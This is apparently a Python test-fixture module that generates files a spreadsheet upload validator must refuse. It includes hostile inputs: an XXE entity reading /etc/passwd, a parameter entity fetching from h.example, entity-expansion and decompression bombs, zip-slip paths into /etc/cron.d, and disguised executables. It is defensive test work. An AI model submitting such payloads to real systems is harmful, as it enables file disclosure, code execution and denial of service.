"""Files that must be refused: name -> (file name, bytes, code of the refusal). Everything is made here."""

import gzip
import io
import random
import struct
import zipfile
from collections.abc import Callable, Iterable

import xlsxwriter

from tests.spreadsheets.ods import ods as small_ods
from tests.spreadsheets.xls import xls

SHEET = "xl/worksheets/sheet1.xml"
NAMESPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MEGABYTE = 1024 * 1024


def workbook(rows: Iterable[Iterable[object]] = (("a", "b"), (1, 2)), sheets: int = 1) -> bytes:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream, {"in_memory": True}) as book:
        for _ in range(sheets):
            sheet = book.add_worksheet()
            for line, row in enumerate(rows):
                sheet.write_row(line, 0, row)
    return stream.getvalue()


def changed(parts: dict[str, bytes], base: bytes | None = None, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A good workbook with some parts replaced or added."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base or workbook())) as old, zipfile.ZipFile(stream, "w", packing) as new:
        for entry in old.namelist():
            if entry not in parts:
                new.writestr(entry, old.read(entry))
        for name, data in parts.items():
            new.writestr(name, data)
    return stream.getvalue()


def packed(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def sheet_xml(rows: str) -> bytes:
    return f'<?xml version="1.0"?><worksheet xmlns="{NAMESPACE}"><sheetData>{rows}</sheetData></worksheet>'.encode()


def cell(reference: str, value: str) -> str:
    row = "".join(letter for letter in reference if letter.isdigit())
    return f'<row r="{row}"><c r="{reference}" t="inlineStr"><is><t>{value}</t></is></c></row>'


def doubled_entry() -> bytes:
    data = bytearray(changed({"xl/other1.xml": b"<a/>", "xl/other2.xml": b"<b/>"}))
    return bytes(data.replace(b"xl/other2.xml", b"xl/other1.xml"))


def lying_directory() -> bytes:
    """The central directory says that the sheet is tiny; its packed data are not."""
    data = bytearray(changed({SHEET: sheet_xml(cell("A1", "x" * 9000))}))
    at = data.index(b"PK\x01\x02")
    while data[at + 46 : at + 46 + len(SHEET)] != SHEET.encode():
        at = data.index(b"PK\x01\x02", at + 4)
    data[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(data)


def with_flag(bit: int) -> bytes:
    data = bytearray(workbook())
    at = 0
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 8] |= bit
    return bytes(data)


def ole(*streams: str) -> bytes:
    return OLE + b"\0" * 504 + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in streams)


def lines(count: int) -> bytes:
    return "".join(f"{i};Ахметов;МГІ-24-1\n" for i in range(count)).encode()


def many_sheets(count: int) -> bytes:
    return changed({f"xl/worksheets/extra{i}.xml": b"<worksheet/>" for i in range(count)})


def large_but_honest() -> bytes:
    chooser = random.Random(1)
    words = [f"<v>{chooser.random()}</v>" for _ in range(30)]
    text = "".join(chooser.choices(words, k=2_200_000))
    return changed({SHEET: sheet_xml(f"<row r='1'>{text}</row>")})


def ods(content: str) -> bytes:
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    )
    body = f"<office:body><office:spreadsheet>{content}</office:spreadsheet></office:body>"
    return packed(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": f'<?xml version="1.0"?><office:document-content {spaces}>{body}</office:document-content>'.encode(),
            "META-INF/manifest.xml": b"<manifest/>",
        }
    )


def ods_table(rows: str, name: str = "Sheet1") -> str:
    return f'<table:table table:name="{name}">{rows}</table:table>'


def ods_row(*texts: str, repeat: int = 1, across: int = 1) -> str:
    cells = "".join(
        f'<table:table-cell office:value-type="string" table:number-columns-repeated="{across}"><text:p>{t}</text:p></table:table-cell>'
        for t in texts
    )
    return f'<table:table-row table:number-rows-repeated="{repeat}">{cells}</table:table-row>'


def shared_bomb() -> bytes:
    strings = f'<sst xmlns="{NAMESPACE}" count="1" uniqueCount="1"><si><t>{"x" * 600_000}</t></si></sst>'
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, 15_001))
    return changed({"xl/sharedStrings.xml": strings.encode(), SHEET: sheet_xml(rows)}, workbook([["a"]]))


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    f'<worksheet xmlns="{NAMESPACE}"><sheetData><row><c t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>'
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet/>'

Corpus = dict[str, tuple[str, Callable[[], bytes], str]]
FILES: Corpus = {
    "formula error in xls": ("a.xls", lambda: xls([["ФИО", "1 апта"], ["Ким А.", "#DIV/0!"]]), "formula_errors"),
    "formula error in ods": ("a.ods", lambda: small_ods([["ФИО", "1 апта"], ["Ким А.", "#DIV/0!"]]), "formula_errors"),
    "empty": ("a.xlsx", lambda: b"", "empty"),
    "above five megabytes": ("a.csv", lambda: b"a;b\n" * (5 * MEGABYTE // 4 + 1), "too_large"),
    "picture": ("a.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 9, "unsupported"),
    "pdf as csv": ("a.csv", lambda: b"%PDF-1.7\n1 0 obj", "unsupported"),
    "gzip as csv": ("a.csv", lambda: gzip.compress(b"a;b\n1;2\n" * 99), "unsupported"),
    "7z": ("a.xlsx", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 99, "unsupported"),
    "program": ("a.xls", lambda: b"MZ" + b"\0" * 999, "unsupported"),
    "csv named xlsx": ("a.xlsx", lambda: "ФИО;ИИН\nа;1\n".encode(), "extension"),
    "workbook named csv": ("a.csv", workbook, "extension"),
    "workbook named xls": ("a.xls", workbook, "extension"),
    "workbook named xlsm": ("a.xlsm", workbook, "extension"),
    "no extension": ("contingent", workbook, "extension"),
    "web page": ("a.xls", lambda: b"<html><table><tr><td>1</td></tr></table></html>", "web_page"),
    "XML 2003": ("a.xls", lambda: b'<?xml version="1.0"?><Workbook/>', "web_page"),
    "text document": ("a.xlsx", lambda: packed({"word/document.xml": b"<w/>"}), "unsupported"),
    "any zip": ("a.xlsx", lambda: packed({"readme.txt": b"hello"}), "unsupported"),
    "binary workbook": ("a.xlsx", lambda: packed({"xl/workbook.bin": b"\x83\x01"}), "unsupported"),
    "macros": ("a.xlsx", lambda: changed({"xl/vbaProject.bin": b"attribut"}), "macros"),
    "macros in xls": ("a.xls", lambda: ole("Workbook", "_VBA_PROJECT"), "macros"),
    "password": ("a.xlsx", lambda: ole("EncryptedPackage", "EncryptionInfo"), "encrypted"),
    "encrypted entry": ("a.xlsx", lambda: with_flag(1), "encrypted"),
    "other OLE": ("a.xls", lambda: ole("WordDocument"), "unsupported"),
    "hollow xls": ("a.xls", lambda: ole("Workbook"), "broken"),
    "cut in half": ("a.xlsx", lambda: workbook()[:2000], "broken"),
    "bytes overwritten": ("a.xlsx", lambda: workbook()[:400] + b"\xff" * 300 + workbook()[700:], "broken"),
    "lying directory": ("a.xlsx", lying_directory, "broken"),
    "not XML": ("a.xlsx", lambda: changed({SHEET: b"<worksheet><sheetData><row></worksheet>"}), "broken"),
    "ratio": ("a.xlsx", lambda: changed({SHEET: sheet_xml(" " * 20 * MEGABYTE)}), "ratio"),
    "unpacked": ("a.xlsx", large_but_honest, "unpacked"),
    "many parts": ("a.xlsx", lambda: changed({f"xl/p{i}.txt": b"x" for i in range(1200)}), "entries"),
    "10 000 sheets": ("a.xlsx", lambda: many_sheets(10_000), "entries"),
    "150 sheets": ("a.xlsx", lambda: workbook(sheets=150), "sheets"),
    "zip inside": ("a.xlsx", lambda: changed({"xl/media/more.zip": packed({"a": b"b"})}), "nested"),
    "zip inside in disguise": ("a.xlsx", lambda: changed({"xl/media/cat.png": packed({"a": b"b"})}), "nested"),
    "workbook inside": ("a.xlsx", lambda: changed({"xl/embeddings/b.xlsx": workbook()}), "nested"),
    "program inside": ("a.xlsx", lambda: changed({"xl/media/cat.png": b"MZ\x90\0" * 9}), "nested"),
    "path upwards": ("a.xlsx", lambda: changed({"../../etc/cron.d/x": b"* * * * *"}), "unsafe_path"),
    "absolute path": ("a.xlsx", lambda: changed({"/etc/cron.d/x": b"* * * * *"}), "unsafe_path"),
    "backslash path": ("a.xlsx", lambda: changed({"xl\\..\\x": b"x"}), "unsafe_path"),
    "same part twice": ("a.xlsx", doubled_entry, "unsafe_path"),
    "entity expansion": ("a.xlsx", lambda: changed({SHEET: LAUGHS.encode()}), "entities"),
    "entity in UTF-16": ("a.xlsx", lambda: changed({SHEET: LAUGHS.encode("utf-16")}), "entities"),
    "outside entity": ("a.xlsx", lambda: changed({"xl/workbook.xml": OUTSIDE.encode()}), "entities"),
    "entity in ods": ("a.ods", lambda: ods("<!DOCTYPE x>" + ods_table(ods_row("a"))), "entities"),
    "sparse to the last cell": ("a.xlsx", lambda: changed({SHEET: sheet_xml(cell("A1", "a") + cell("XFD1048576", "b"))}), "resources"),
    "last column": ("a.xlsx", lambda: changed({SHEET: sheet_xml(cell("A1", "a") + cell("XFD2", "b"))}), "columns"),
    "20 021 rows": ("a.xlsx", lambda: workbook([[i, "a"] for i in range(20_021)]), "rows"),
    "101 columns": ("a.xlsx", lambda: workbook([list(range(101))]), "columns"),
    "shared string bomb": ("a.xlsx", shared_bomb, "resources"),
    "endless text": ("a.xlsx", lambda: workbook([["x" * 12_000]]), "text"),
    "ods repeated rows": ("a.ods", lambda: ods(ods_table(ods_row("a", repeat=200_000))), "rows"),
    "ods repeated everything": ("a.ods", lambda: ods(ods_table(ods_row("a", repeat=1_000_000, across=16_000))), "broken"),
    "csv of 100 000 lines": ("a.csv", lambda: lines(100_000), "rows"),
    "csv of 20 021 lines": ("a.csv", lambda: lines(20_021), "rows"),
    "csv of one endless line": ("a.csv", lambda: b"1;" * MEGABYTE, "columns"),
    "csv with an open quotation mark": ("a.csv", lambda: b'a;"' + b"b\n" * 200_000, "rows"),
    "csv with zero bytes": ("a.csv", lambda: b"a;b\n" * 99 + b"\0;c\n", "unsupported"),
    "csv in no known letters": ("a.csv", lambda: bytes(range(128, 256)) * 40 + b"\x01\x02;\n", "encoding"),
    "one line of a megabyte": ("a.csv", lambda: b"a;" + b"x" * MEGABYTE + b"\n1;2\n", "text"),
    "a quoted megabyte": ("a.csv", lambda: b'a;b\n"' + b"x\n" * (MEGABYTE // 4) + b'";1\n', "rows"),
    "two alphabets in one file": ("a.csv", lambda: "ФИО;Топ\n".encode() + b"\x98\x00\xff\xfe;\x81\n" * 9, "unsupported"),
    "zeros only": ("a.csv", lambda: b"\0" * 1000, "unsupported"),
    "macro workbook by its right name": ("a.xlsm", lambda: changed({"xl/vbaProject.bin": b"attribut"}), "macros"),
    "drive letter in a path": ("a.xlsx", lambda: changed({"C:/windows/x": b"x"}), "unsafe_path"),
    "parameter entity": ("a.xlsx", lambda: changed({"xl/styles.xml": b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://h.example/x">%x;]><a/>'}), "entities"),
    "entities in shared strings": ("a.xlsx", lambda: changed({"xl/sharedStrings.xml": LAUGHS.encode()}), "entities"),
    "ods cut in half": ("a.ods", lambda: small_ods([["a", "b"]])[:300], "broken"),
    "xls cut in half": ("a.xls", lambda: xls([["a", "b"]])[:1500], "broken"),
}  # fmt: skip
